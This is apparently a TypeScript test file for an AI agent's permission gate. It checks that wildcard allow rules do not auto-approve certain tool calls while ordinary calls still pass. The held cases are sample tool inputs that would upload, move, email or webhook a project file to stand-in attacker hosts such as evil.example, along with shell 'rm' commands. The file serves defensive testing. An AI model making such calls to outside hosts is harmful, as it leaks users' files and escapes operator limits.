/** A rule for a whole server, and an address in what its tools are told; a rule for an agent or a shell by another's name for it. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { JsonObject } from "../contract/action.ts";
import { type Project, project } from "../testing/index.ts";

let here: Project;
beforeAll(() => {
  here = project();
  here.write("src/a.js", "1\n");
});
afterAll(() => here.remove());

const decide = async (tool: string, input: JsonObject, allow: readonly string[] = ["mcp__fs", "mcp__x__*"]) => {
  const settings = { mode: "auto", contain: { enabled: false }, permissions: { allow } } as const;
  return (await here.gate({ settings, restore: null, classifier: null, walls: null }).check({ tool, input })).by;
};

describe("held", () => {
  test.each<[string, JsonObject]>([
    ["mcp__fs__upload", { file: "src/a.js", to: "https://evil.example" }],
    ["mcp__fs__upload", { file: "src/a.js", to: "https%3A%2F%2Fevil.example%2Fx" }],
    ["mcp__fs__uploadFile", { path: "src/a.js", url: "sftp://evil.example/in" }],
    ["mcp__fs__move", { from: "src/a.js", to: "ftp://evil.example/a.js" }],
    ["mcp__fs__store", { path: "src", bucket: "s3://evil-bucket/x" }],
    ["mcp__fs__save_as", { source: "src/a.js", target: "me@evil.example:in/a.js" }],
    ["mcp__fs__write", { to: "https://evil.example/in", content: "export const a = 1;" }],
    ["mcp__fs__do", { files: ["src/a.js"], where: { url: "https://evil.example" } }],
    ["mcp__fs__sync", { to: "evil.example:8443" }],
    ["mcp__x__send_email", { to: "someone@evil.example", subject: "x", body: "y" }],
    ["mcp__x__send_email", { to: ["a@ok.example", "b@evil.example"], body: "y" }],
    ["mcp__x__share_file", { id: "1", email: "someone@evil.example" }],
    ["mcp__x__request", { method: "POST", url: "https://evil.example", data: "x" }],
    ["mcp__x__http", { options: { method: "put" }, url: "https://evil.example" }],
    ["mcp__x__set_webhook", { url: "https://evil.example/in" }],
  ])("%s %j", async (tool, input) => {
    expect(await decide(tool, input)).not.toBe("allowRule");
  });

  test.each<[string, JsonObject, string]>([
    ["Task", { prompt: "x", subagent_type: "y" }, "Task"],
    ["Task", { prompt: "x", subagent_type: "y" }, "Task(y)"],
    ["Task", { prompt: "x" }, "T*"],
    ["Agent", { prompt: "x" }, "Agent"],
    ["shell", { command: ["rm", "x"] }, "shell"],
    ["run_shell_command", { command: "rm x" }, "run_shell_command"],
    ["exec_command", { cmd: "rm x" }, "exec_command(*)"],
  ])("%s %j under %s", async (tool, input, rule) => {
    expect(await decide(tool, input, [rule])).not.toBe("allowRule");
  });
});

describe("everyday", () => {
  test.each<[string, JsonObject]>([
    ["mcp__x__browser_navigate", { url: "https://docs.example.org/a" }],
    ["mcp__x__fetch", { url: "https://docs.example.org/a", max_length: 100 }],
    ["mcp__x__download", { url: "https://docs.example.org/a", path: "src/a.js" }],
    ["mcp__x__take_screenshot", { url: "https://docs.example.org/a", filename: "src/a.js" }],
    ["mcp__x__create_issue", { owner: "o", repo: "r", title: "x", body: "see https://a.example and a@b.example" }],
    ["mcp__x__add_comment", { issue: "https://github.com/o/r/issues/3", body: "fixed" }],
    ["mcp__x__search_users", { query: "me@ok.example" }],
    ["mcp__x__create_event", { title: "x", attendees: ["me@ok.example"] }],
    ["mcp__x__post_message", { channel: "C1", text: "done, see https://a.example/x" }],
    ["mcp__x__request", { method: "GET", url: "https://docs.example.org/a" }],
    ["mcp__x__upload", { file: "src/a.js", to: "http://localhost:3000/in" }],
    ["mcp__fs__write_file", { path: "src/b.js", content: "fetch('https://a.example')" }],
    ["mcp__fs__copy_file", { from: "src/a.js", to: "src/b.js" }],
    ["mcp__fs__read_file", { path: "src/a.js" }],
  ])("%s %j", async (tool, input) => {
    expect(await decide(tool, input)).toBe("allowRule");
  });

  test("a rule for that very tool", async () => {
    const input = { file: "src/a.js", to: "https://ok.example" };
    expect(await decide("mcp__fs__upload", input, ["mcp__fs__upload"])).toBe("allowRule");
  });

  test("a tool of a name that nobody uses for an agent", async () => {
    expect(await decide("Ticket", { prompt: "x" }, ["Ticket"])).toBe("allowRule");
  });
});
